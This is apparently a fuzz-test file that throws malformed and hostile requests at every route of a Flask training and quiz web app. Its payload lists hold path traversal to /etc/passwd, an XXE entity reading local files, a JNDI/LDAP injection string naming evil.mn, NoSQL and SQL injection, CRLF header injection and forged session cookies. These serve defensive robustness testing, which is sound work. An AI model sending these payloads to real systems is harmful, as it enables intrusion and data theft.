"""Any address, method, header, cookie and body, from anybody: the laws of support/laws.py hold.

Addresses are those of app.url_map, so that a new one is taken in by itself. DIGCOMP_LONG=1 tries far more.
"""

import gc
import gzip
from collections.abc import Iterator
from io import BytesIO
from urllib.parse import quote, quote_from_bytes

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.hostile import DAYS, NUMBERS, RAW, TAG, TEXTS, encoded, values
from support.laws import broken, watching
from support.pages import Page
from support.town import EVERYBODY, STRANGER, Town
from support.tries import many
from werkzeug.routing import Rule

#: Of a body that is cut off inside a file the library leaves the file to be closed when it is forgotten.
pytestmark = pytest.mark.filterwarnings("ignore:.*SpooledTemporaryFile:pytest.PytestUnraisableExceptionWarning")
METHODS = ("GET", "GET", "GET", "POST", "HEAD", "OPTIONS", "PUT", "PATCH", "DELETE", "TRACE", "BREW")
QUERIES = (
    "statement", "width", "language", "notice", "to", "page", "test", "from", "area", "kind", "show", "sort", "edition",
    "aimag", "programme", "organisation", "action", "by", "q", "since", "until", "day", "item", "level", "status", "x",
)  # fmt: skip
HOSTS = ("localhost", "evil.mn", "evil.mn:99999", "[::1", "a b", "é.mn", "x" * 300, "", "evil.mn/..", "a,b", "127.1:x")
HEADERS: dict[str, tuple[str, ...]] = {
    "HTTP_HOST": HOSTS,
    "HTTP_X_FORWARDED_FOR": ("1.2.3.4", "x" * 5000, "::1, é", "'; --", ""),
    "HTTP_X_FORWARDED_HOST": HOSTS,
    "HTTP_X_FORWARDED_PROTO": ("https", "javascript", "http,https"),
    "HTTP_ACCEPT_LANGUAGE": ("en", "mn;q=x", "*" * 3000, "en;q=1e999", "é", ",,;;", "kk-Cyrl"),
    "HTTP_ACCEPT_ENCODING": ("gzip", "gzip;q=0", "br;q=NaN", "*" * 2000),
    "HTTP_ACCEPT": ("application/json", "text/html;q=x", "*/*;" * 500),
    "HTTP_RANGE": ("bytes=0-1", "bytes=-9999999999999999999999", "lines=1", "bytes=5-1,,", "bytes=0-" * 200),
    "HTTP_IF_NONE_MATCH": ("*", '"', "W/" * 100),
    "HTTP_IF_MODIFIED_SINCE": ("Thu, 99 Foo 2026", "0", "Thu, 01 Jan 0001 00:00:00 GMT"),
    "HTTP_REFERER": ("https://evil.mn/", "é", "javascript:1"),
    "HTTP_X_REQUEST_ID": ("a" * 64, "a\nb 200", TAG, "é" * 20, ""),
    "HTTP_AUTHORIZATION": ("Basic !!!", "Bearer " + "x" * 3000, "Digest é", "Basic w6k="),
    "HTTP_COOKIE": (
        "digcomp=x", "digcomp=e30.x; digcomp=e30.y", "digcomp=" + "A" * 9000, "digcomp=.eJw; =; ;;", "digcomp=\xff\xfe",
        'digcomp="a; b', "digcomp-device=e30.AA", "digcomp-device=; digcomp=eyJfdXNlcl9pZCI6IjEifQ.aaaa",
    ),
    "HTTP_X_HTTP_METHOD_OVERRIDE": ("DELETE",),
    "HTTP_TRANSFER_ENCODING": ("chunked", "gzip, chunked", "x"),
    "HTTP_CONTENT_ENCODING": ("gzip", "x"),
    "HTTP_USER_AGENT": (TAG, "", "x" * 9000, "${jndi:ldap://evil.mn}"),
    "CONTENT_LENGTH": ("-1", "x", "99999999999", "0", "1e3", ""),
    "REMOTE_ADDR": ("::1", "fe80::1%eth0", "é", "", "999.1.1.1"),
}  # fmt: skip
PART = b'--b\r\nContent-Disposition: form-data; name="name"'
BODIES: tuple[tuple[str, bytes], ...] = (
    ("application/json", b'{"code": ["1"], "name": {"$ne": 1}}'),
    ("application/json", b"[" * 5000),
    ("text/plain", b"code=1"),
    ("application/xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    ("", b"code=1"),
    ("é/\xff", b"code=1"),
    ("application/x-www-form-urlencoded; charset=utf-16", "code=1".encode("utf-16")),
    ("application/x-www-form-urlencoded; charset=nonsense", b"code=%FF"),
    ("application/x-www-form-urlencoded", b"&".join(b"a=1" for _ in range(3000))),
    ("application/x-www-form-urlencoded", b"a=" + b"1" * 300_000),
    ("application/x-www-form-urlencoded", b"=&&;=%&%u0041=%C3%28&code=%00"),
    ("multipart/form-data", b"code=1"),
    ("multipart/form-data; boundary=", PART + b"\r\n\r\n1\r\n--b--"),
    ("multipart/form-data; boundary=b", b"--x\r\n\r\n"),
    ("multipart/form-data; boundary=b", PART),
    ("multipart/form-data; boundary=b", PART + b"\r\n\r\n\xff\xfe\0\r\n--b--\r\n"),
    ("multipart/form-data; boundary=b", PART + b'; filename="a.txt"\r\nContent-Type: x\r\n\r\n1\r\n--b--\r\n'),
    ("multipart/form-data; boundary=b", PART + b'; filename="../../\xff\0"\r\n\r\n1\r\n--b--\r\n'),
    ("multipart/form-data; boundary=b", PART + b"\r\nContent-Type: text/plain; charset=x\r\n\r\n1\r\n--b--\r\n"),
    ("multipart/form-data; boundary=b", (PART + b"\r\n\r\n1\r\n") * 1500 + b"--b--\r\n"),
    ("multipart/form-data; boundary=" + "b" * 3000, b"--b"),
)
PATHS = (
    "/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2fapp.py", "/%00", "/join/%00", "/join/%FF%FE", "/%C0%AF", "//evil.mn/join",
    "/join//", "/join/../login", "/\\evil.mn", "/sitting/" + "a" * 8000, "/" + "a/" * 2000, "/style/..%2fchrome.py",
    "/script/%2e%2e%2flook.css", "/script/answer-", "/lang/..", "/verify/%0d%0aSet-Cookie:a=b", "/trainings/-1",
    "/trainings/0", "/trainings/999999999", "/trainings/9999999999", "/trainings/%D9%A3", "/trainings/1%00", "/;/join",
    "/trainings/1.0", "/badges/keys/..", "/badges/keys/%00.json", "/author/items/%00", "/author/items/..%2f", "/%",
)  # fmt: skip


def addressed(draw: st.DrawFn, town: Town, rule: Rule) -> str:
    """An address of a rule; each of its parts is a real one or anything."""
    real: dict[str, list[str]] = {
        "token": [*town.tokens.values(), next(iter(town.tokens.values()))[:-1], "t" * 32],
        "training_id": [str(number) for number in town.trainings.values()],
        "code": [*town.codes.values(), "mn", "en"],
        "kind": ["pre", "post", "follow-up"],
        "turn": ["open", "close", "archive", "unarchive"],
        "wish": ["move", "merge", "remove"],
        "form": ["xlsx", "csv", "json"],
        "name": ["areas", "competences", "growth_areas", "issuer"],
        "item_id": [next(iter(town.instrument.bank.items))],
    }
    path = ""
    for is_variable, part in rule._trace:
        if not is_variable:
            path += part.lstrip("|")
        elif draw(st.integers(0, 4)):
            path += draw(st.sampled_from(real.get(part, [str(n) for n in range(1, 30)])))
        else:
            other = draw(values)
            path += quote_from_bytes(other) if isinstance(other, bytes) else quote(other[:9000], safe="")
    return path


@st.composite
def requests(draw: st.DrawFn, town: Town, rules: list[Rule]) -> dict[str, object]:
    """One request as its pieces."""
    path = addressed(draw, town, draw(st.sampled_from(rules))) if draw(st.integers(0, 5)) else draw(known_paths)
    query = encoded([(draw(st.sampled_from(QUERIES)), draw(values)) for _ in range(draw(st.integers(0, 2)))])
    kind, body = draw(st.sampled_from(BODIES)) if draw(st.booleans()) else ("", b"")
    names = draw(st.lists(st.sampled_from(sorted(HEADERS)), max_size=2, unique=True))
    return {
        "path": path,
        "query": query[:9000],
        "method": draw(st.sampled_from(METHODS)),
        "kind": kind,
        "body": body,
        "headers": {name: draw(st.sampled_from(HEADERS[name])) for name in names},
    }


known_paths = st.sampled_from(PATHS)


def judged(town: Town, asked: dict[str, object], who: str, language: str) -> list[str]:
    """What is wrong with the answer."""
    headers = dict(asked["headers"])  # type: ignore[call-overload]
    lost = "HTTP_COOKIE" in headers
    client = town.app.test_client(use_cookies=False) if lost else town.browser(who, language).client
    told = {name: value.encode().decode("latin-1") for name, value in headers.items()}
    town.restore()
    with watching(town) as watch:
        response = client.open(
            asked["path"],
            method=str(asked["method"]),
            query_string=bytes(asked["query"]).decode(),  # type: ignore[call-overload]
            input_stream=BytesIO(asked["body"]),  # type: ignore[arg-type]
            content_length=len(asked["body"]),  # type: ignore[arg-type]
            content_type=str(asked["kind"]).encode().decode("latin-1"),
            environ_overrides=told,
        )
        if response.content_encoding == "gzip":
            response.data = gzip.decompress(response.data)
        page = Page(response, str(asked["path"]))
        response.close()  # as a server does
    # To another host a browser sends no cookie, and the choice of a language is in the cookie.
    away = headers.get("HTTP_HOST", "localhost") != "localhost" or str(asked["path"]).startswith("//")
    speaks = "mn" if lost or (away and page.language == "mn") else language
    sent = f"{asked['path']}{asked['query']}{asked['body']}"
    found = broken(page, town, STRANGER if lost else who, speaks, method=str(asked["method"]), sent=sent)
    town.restore()
    return [f"{who}: {one} at {str(asked)[:700]}" for one in [*found, *watch.said]]


def asking(path: str, **more: object) -> dict[str, object]:
    """A request with nothing wrong, but for what is told."""
    return {"path": path, "query": b"", "method": "GET", "kind": "", "body": b"", "headers": {}} | more


@pytest.mark.parametrize("who", [STRANGER, "boris"])
def test_every_odd_path_is_answered(town: Town, who):
    assert [one for path in PATHS for one in judged(town, asking(path), who, "mn")] == []


def test_every_odd_header_is_borne(town: Town):
    paths = ["/join", "/nothing", "/trainings", f"/sitting/{town.tokens['quiz']}"]
    wrong = []
    for place, (name, odd) in enumerate(HEADERS.items()):
        for number, value in enumerate(odd):
            asked = asking(paths[(place + number) % len(paths)], headers={name: value})
            wrong += judged(town, asked, "boris", "mn")
    assert "\n".join(wrong) == ""


@pytest.mark.parametrize("path", ["/join", "/login", "a sitting", "a list", "a file"])
def test_every_odd_body_is_refused_in_words(town: Town, path):
    roster = f"/trainings/{town.trainings['open']}/roster"
    path = {"a sitting": f"/sitting/{town.tokens['quiz']}", "a list": roster, "a file": f"{roster}/file"}.get(
        path, path
    )
    asked = [asking(path, method="POST", kind=kind, body=body) for kind, body in BODIES]
    assert [wrong for one in asked for wrong in judged(town, one, "boris", "en")] == []


def test_every_address_bears_other_methods(town: Town):
    """HEAD, OPTIONS and the methods that nothing here takes, at each rule once."""
    wrong = []
    for place, rule in enumerate(sorted(town.app.url_map.iter_rules(), key=str)):
        parts = {"training_id": town.trainings["open"], "token": town.tokens["quiz"], "kind": "pre", "seat_id": 12}
        own = {name: parts.get(name, "1") for name in rule.arguments}
        path = "".join(str(own.get(part, "archive")) if is_one else part.lstrip("|") for is_one, part in rule._trace)
        for number in range(2):
            method = METHODS[4 + (place * 2 + number) % (len(METHODS) - 4)]
            wrong += judged(town, asking(path, method=method), "dora", "mn")
    assert "\n".join(wrong) == ""


def test_what_stands_in_an_address_bears_every_horror(town: Town):
    """Filters, positions and numbers, with each of the known horrors."""
    token, number = town.tokens["finished"], town.trainings["open"]
    paths = [f"/sitting/{town.tokens['statements']}", f"/sitting/{token}/chart/areas.svg", "/comparison", "/verify"]
    paths += [f"/trainings/{number}/results", f"/trainings/{number}/growth", "/admin/audit", "/lang/mn", "/login"]
    wrong = []
    for place, value in enumerate([*TEXTS, *NUMBERS, *DAYS, *RAW]):
        path = paths[place % len(paths)]
        query = encoded([(name, value) for name in QUERIES])
        asked = asking(path, query=query if len(query) < 60_000 else query[:60_000])
        wrong += judged(town, asked, "dora", "mn")
    assert "\n".join(wrong) == ""


def test_any_request_of_anybody_holds_the_laws(town: Town):
    rules = sorted(town.app.url_map.iter_rules(), key=lambda rule: (rule.rule, rule.endpoint))

    @many(200)
    @given(st.data())
    def holds(data: st.DataObject) -> None:
        who, language = data.draw(st.sampled_from(EVERYBODY)), data.draw(st.sampled_from(["mn", "en"]))
        assert judged(town, data.draw(requests(town, rules)), who, language) == []

    holds()


@pytest.fixture(autouse=True)
def restored(town: Town) -> Iterator[None]:
    """Every test finds the town as it was made, and forgets its own files."""
    town.restore()
    yield
    town.restore()
    gc.collect()
